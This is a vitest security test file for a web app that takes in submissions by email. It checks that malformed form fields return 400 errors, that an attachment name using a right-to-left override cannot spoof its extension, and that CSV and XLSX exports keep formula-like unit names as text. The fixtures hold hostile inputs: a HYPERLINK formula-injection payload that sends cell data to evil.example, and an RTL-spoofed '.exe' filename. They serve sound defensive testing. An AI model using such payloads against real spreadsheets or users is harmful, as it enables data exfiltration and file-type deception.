// Hostile input over real HTTP: malformed form values get a 400 naming the field in Chinese (no
// 500, no stack trace, nothing changed); a right-to-left override cannot spoof an attachment's
// extension, on the page or in the download's name; a unit name that is a formula stays text in
// the CSV and XLSX exports.
import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from "vitest";
import { freshApp, type TestEnv } from "../helpers.js";
import { seedDemoUsers } from "../../src/accounts/users.js";
import { serve, type Running } from "../../src/serve.js";
import { Maildir } from "../../src/sources/maildir.js";
import { Client, errorText } from "../support/http-client.js";

const PASSWORD = "Demo-pass-2026";
let t: TestEnv;
let running: Running;
const faults = vi.spyOn(console, "error");

beforeAll(async () => {
  t = await freshApp({ PORT: "0", POLL_INTERVAL_MS: "600000" });
  await seedDemoUsers(t.app.db, PASSWORD);
  running = await serve(t.app, () => undefined);
});

afterAll(async () => {
  await running?.stop();
  await t?.app.close();
});

afterEach(() => {
  // A malformed form is the sender's mistake, not a fault: nothing goes to the error log.
  expect(faults).not.toHaveBeenCalled();
});

async function as(username: string): Promise<Client> {
  const c = new Client(running.url);
  expect((await c.signIn(username, PASSWORD)).status).toBe(302);
  return c;
}

/** A submission with one attachment whose name is `filename` (RFC 2231, as Outlook and Coremail send it). */
function withAttachment(filename: string, subject = "石家庄市编办报送材料", messageId = "hostile-1@sjz-bb.example"): Buffer {
  const b = "b-hostile";
  return Buffer.from(
    [
      "From: xxk@sjz-bb.example",
      "To: xinxi@hebbb.example",
      `Subject: =?UTF-8?B?${Buffer.from(subject).toString("base64")}?=`,
      `Message-ID: <${messageId}>`,
      "MIME-Version: 1.0",
      `Content-Type: multipart/mixed; boundary="${b}"`,
      "",
      `--${b}`,
      "Content-Type: text/plain; charset=UTF-8",
      "",
      "请见附件。",
      `--${b}`,
      "Content-Type: application/octet-stream",
      `Content-Disposition: attachment; filename*=UTF-8''${encodeURIComponent(filename)}`,
      "Content-Transfer-Encoding: base64",
      "",
      Buffer.from("MZ fake executable").toString("base64"),
      `--${b}--`,
      "",
    ].join("\r\n"),
  );
}

describe("malformed form values", () => {
  it("answers a repeated or malformed field with 400 and the field's name, and changes nothing", async () => {
    const zhang = await as("zhangwenyi");
    new Maildir(t.env.MAILDIR!).deliver(withAttachment("通知.pdf"));
    await running.pollNow();
    const d = await t.app.db.draft.findFirstOrThrow({ where: { title: "石家庄市编办报送材料" } });
    const csrf = await zhang.csrf(`/drafts/${d.id}`);
    const cases: Array<[string, Record<string, string | string[]>, string]> = [
      [`/drafts/${d.id}/edit`, { _form: "edit", title: ["甲", "乙"], body: "正文", version: String(d.version) }, "「标题」只能填写一项"],
      [`/drafts/${d.id}/edit`, { _form: "edit", title: "标题\u0000", body: "正文", version: String(d.version) }, "「标题」含有不允许的控制字符"],
      [`/drafts/${d.id}/action`, { _form: "action:archive", action: "archive", version: "abc" }, "「版本号」须为正整数编号"],
      [`/drafts/${d.id}/action`, { _form: "action:archive", action: "delete_everything", version: String(d.version) }, "「操作」不是可选的值"],
      [`/drafts/${d.id}/triage`, { _form: "triage", unitId: "1e3", columnId: "", divisionId: "", version: String(d.version) }, "「报送单位」须为正整数编号"],
      [`/drafts/${d.id}/merge`, { _form: "merge", originalId: "", version: String(d.version) }, "原稿编号"],
    ];
    for (const [path, form, message] of cases) {
      const res = await zhang.post(path, { ...form, _csrf: csrf });
      const html = await res.text();
      expect([path, res.status]).toEqual([path, 400]);
      expect(errorText(html)).toContain(message);
    }
    expect((await t.app.db.draft.findUniqueOrThrow({ where: { id: d.id } })).version).toBe(d.version);
  });

  it("does the same on the sign-in page and the information centre's forms", async () => {
    const c = new Client(running.url);
    const login = await c.post("/login", { username: ["yaolin", "mayun"], password: PASSWORD, _csrf: await c.csrf() });
    expect([login.status, errorText(await login.text())]).toEqual([400, "「用户名」只能填写一项"]);
    const info = await as("yaolin");
    const csrf = await info.csrf("/admin/rules");
    const weight = await info.post("/admin/rules", { kind: "column", columnId: "1", pattern: "机构改革", weight: "很多", _csrf: csrf });
    expect([weight.status, errorText(await weight.text())]).toEqual([400, "「权重」须为整数"]);
    const unit = await info.post("/admin/units", { name: ["正定县编办", "x"], regionCode: "130123", emails: "", faxNumbers: "", _csrf: csrf });
    expect([unit.status, errorText(await unit.text())]).toEqual([400, "「单位名称」只能填写一项"]);
    const officer = await info.post("/admin/officers/1", { decision: "maybe", _csrf: csrf });
    expect([officer.status, errorText(await officer.text())]).toEqual([400, "「处理结果」不是可选的值"]);
  });
});

describe("e-mail-derived names", () => {
  it("shows an attachment named with a right-to-left override with the override neutralised, and downloads it under the real extension", async () => {
    const spoof = "invoice\u202Efdp.exe"; // displays as "invoiceexe.pdf"
    new Maildir(t.env.MAILDIR!).deliver(withAttachment(spoof, "石家庄市编办报送发票", "hostile-2@sjz-bb.example"));
    await running.pollNow();
    const d = await t.app.db.draft.findFirstOrThrow({ where: { title: "石家庄市编办报送发票" }, include: { intakes: { include: { attachments: true } } } });
    const att = d.intakes[0]!.attachments.find((a) => a.filename?.includes("invoice"))!;
    expect(att.filename).toBe(spoof); // kept as sent, for the record
    const zhang = await as("zhangwenyi");
    const page = await (await zhang.req(`/drafts/${d.id}`)).text();
    const i = page.indexOf("\u202E");
    expect(i < 0 ? "" : page.slice(Math.max(0, i - 300), i + 100)).toBe("");
    expect(page).toContain("invoice\uFFFDfdp.exe");
    const download = await zhang.req(`/attachments/${att.id}`);
    const disposition = download.headers.get("content-disposition") ?? "";
    expect(disposition).toMatch(/^attachment;/);
    expect(decodeURIComponent(disposition)).not.toContain("\u202E");
    expect(decodeURIComponent(disposition)).toContain("fdp.exe");
  });

  it("keeps a unit name that is a formula as text in the CSV and XLSX exports", async () => {
    const info = await as("yaolin");
    const name = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")县编办';
    const saved = await info.post("/admin/units", { name, regionCode: "130199", emails: "", faxNumbers: "", active: "on", _csrf: await info.csrf("/admin/units") });
    expect(saved.status).toBe(302);
    for (const n of ["+86 平山县编办", "-1 元氏县编办", "@SUM(1) 赞皇县编办"])
      await info.post("/admin/units", { name: n, regionCode: "130198", emails: "", faxNumbers: "", active: "on", _csrf: await info.csrf("/admin/units") });
    const csv = await (await info.req("/stats.csv")).text();
    const cells = csv.split("\r\n").map((l) => l.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/)[1] ?? "");
    const formulaLike = cells.filter((c) => /^"?[=+\-@]/.test(c));
    expect(formulaLike).toEqual([]);
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""点击查看"")县编办"`);
    expect(csv).toContain("'+86 平山县编办");

    const { default: ExcelJS } = await import("exceljs");
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(Buffer.from(await (await info.req("/stats.xlsx")).arrayBuffer()) as never);
    const values = wb.worksheets[0]!.getColumn(2).values.filter((v): v is string => typeof v === "string");
    expect(values).toContain(`'${name}`);
    expect(values.filter((v) => /^[=+\-@]/.test(v))).toEqual([]);
  });
});
